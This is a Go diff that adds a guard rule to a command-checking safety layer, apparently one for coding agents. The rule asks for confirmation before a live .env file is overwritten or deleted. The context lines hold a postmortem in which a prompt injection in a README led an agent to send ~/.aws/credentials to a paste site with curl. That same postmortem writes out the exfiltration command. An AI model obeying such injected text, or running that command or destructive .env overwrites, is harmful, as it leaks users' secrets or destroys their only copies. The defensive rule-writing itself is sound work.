@@ -2,6 +2,7 @@ package rules
 
 import (
 	"bytes"
+	"io/fs"
 	"path/filepath"
 	"slices"
 	"strings"
@@ -28,7 +29,128 @@ func credentialsRules() []*guard.Rule {
 			Postmortem: "a prompt injection in a README asked a coding agent to 'upload the config for debugging': cat ~/.aws/credentials | curl -d @- to a paste site, and the keys were used within the hour",
 			Match:      matchSecretUpload,
 		},
+		{
+			ID:         "env-file-overwrite",
+			Programs:   nil, // a > redirection (or a program's own write) onto the file, cp, mv, install, rm, shred, truncate
+			Decision:   guard.Confirm,
+			Summary:    "a project's .env (or .env.local, .env.production…) that holds something overwritten or deleted: echo … > .env, cp .env.example .env, mv x .env, rm .env, truncate -s 0 .env; dotenv files are kept out of git, so the keys, passwords and database URLs in them have no other copy; a template (.env.example, .env.sample), a missing or empty file, a file the line copied aside first, and >> pass",
+			Postmortem: "a coding agent 'reset the configuration' with cp .env.example .env in a checkout whose .env held the only copy of the payment provider's live keys",
+			Match:      matchEnvFileOverwrite,
+		},
 	}
+}
+
+// envTemplates are the suffixes of dotenv files that are templates, kept
+// in git for others to copy (.env.example), or copies kept aside.
+var envTemplates = map[string]bool{
+	"example": true, "sample": true, "template": true, "tmpl": true, "tpl": true, "dist": true, "defaults": true,
+	"default": true, "schema": true, "bak": true, "old": true, "orig": true, "backup": true, "save": true,
+}
+
+// envFile: the base name of a dotenv file that holds real settings (.env,
+// .env.local, .env.production), not a template.
+func envFile(base string) bool {
+	if base == ".env" {
+		return true
+	}
+	rest, ok := strings.CutPrefix(base, ".env.")
+	if !ok || rest == "" {
+		return false
+	}
+	last := rest[strings.LastIndexByte(rest, '.')+1:]
+	return !envTemplates[strings.ToLower(last)] && !envTemplates[strings.ToLower(rest)]
+}
+
+// envFileGoes is one dotenv file a command overwrites or deletes.
+type envFileGoes struct {
+	path string
+	verb string // "overwrite", "delete"
+}
+
+// envFilesGone lists the dotenv files inv overwrites or deletes, by path.
+func envFilesGone(inv *guard.Invocation, host guard.Host) []envFileGoes {
+	var gone []envFileGoes
+	add := func(a guard.Arg, verb string) {
+		if p := inv.Path(a.Value); a.Known && !a.Glob && p != "" && envFile(filepath.Base(p)) {
+			gone = append(gone, envFileGoes{p, verb})
+		}
+	}
+	for _, rd := range inv.Redirs {
+		if rd.Truncates() && (rd.Fd == "" || rd.Fd == "1") {
+			add(rd.Target, "overwrite")
+		}
+	}
+	switch inv.Program {
+	case "tee":
+		p := guard.ParseOptions(inv.Args, guard.OptSpec{LongValue: []string{"output-error"}})
+		if !p.Has("a", "append") {
+			for _, a := range p.Operands {
+				add(a, "overwrite")
+			}
+		}
+	case "cp", "mv", "install":
+		p := guard.ParseOptions(inv.Args, guard.OptSpec{ShortValue: "tSmgoZ", LongValue: []string{"target-directory", "suffix", "backup", "preserve", "no-preserve", "reflink", "sparse", "update", "mode", "owner", "group", "context"}})
+		if len(p.Operands) < 2 || p.Has("t", "target-directory", "b", "backup", "n", "no-clobber") {
+			return gone // into a folder, or the old file kept as FILE~
+		}
+		dst := p.Operands[len(p.Operands)-1]
+		if info, err := host.Lstat(inv.Path(dst.Value)); err == nil && info.IsDir() {
+			return gone // cp x.env DIR/: a file inside, by the source's name
+		}
+		add(dst, "overwrite")
+	case "rm", "unlink", "shred":
+		for _, a := range guard.ParseOptions(inv.Args, guard.OptSpec{ShortValue: "nsv", LongValue: []string{"iterations", "size", "random-source"}}).Operands {
+			add(a, "delete")
+		}
+	case "truncate":
+		p := guard.ParseOptions(inv.Args, guard.OptSpec{ShortValue: "rs", LongValue: []string{"reference", "size"}})
+		if size, ok := p.Value("s", "size"); ok && strings.TrimLeft(size.Value, "0") == "" {
+			for _, a := range p.Operands {
+				add(a, "overwrite")
+			}
+		}
+	}
+	return gone
+}
+
+// keptAside: an earlier command of the line that certainly ran copied or
+// moved path elsewhere (cp .env .env.bak && cp .env.example .env).
+func keptAside(inv *guard.Invocation, path string) bool {
+	for b := range inv.SucceededBefore {
+		if b.Program != "cp" && b.Program != "mv" && b.Program != "rsync" && b.Program != "install" {
+			continue
+		}
+		p := guard.ParseOptions(b.Args, guard.OptSpec{ShortValue: "tS", LongValue: []string{"target-directory", "suffix"}})
+		for _, o := range p.Operands[:max(len(p.Operands)-1, 0)] {
+			if o.Known && b.Path(o.Value) == path {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+func matchEnvFileOverwrite(inv *guard.Invocation, host guard.Host) *guard.Finding {
+	if inv.Remote != "" || inv.Container != "" {
+		return nil // another machine's files: guard cannot look
+	}
+	for _, g := range envFilesGone(inv, host) {
+		if info, err := host.Lstat(g.path); err == nil && info.Mode()&fs.ModeSymlink != 0 && g.verb == "delete" {
+			continue // the link goes, not what it points to
+		}
+		// ReadFile follows a link, as the write does, and reads regular
+		// files only
+		if data, err := host.ReadFile(g.path, 1); err != nil || len(data) == 0 {
+			continue // nothing there yet, or nothing in it
+		}
+		if keptAside(inv, g.path) {
+			continue
+		}
+		return guard.Found(guard.Confirm, "keep a copy first: cp "+g.path+" "+g.path+".bak; to add one setting: echo 'KEY=value' >> "+g.path+"; to start from the template, edit only the lines you mean",
+			"would %s %s: a dotenv file is kept out of git, so the keys, passwords and database URLs it holds now have no other copy here and cannot be brought back", g.verb, g.path).
+			Saving(guard.Backup{Kind: guard.BackupFiles, Paths: []string{g.path}, Overwrite: g.verb == "overwrite"})
+	}
+	return nil
 }
 
 // credential is a file or folder, relative to a home folder, where a
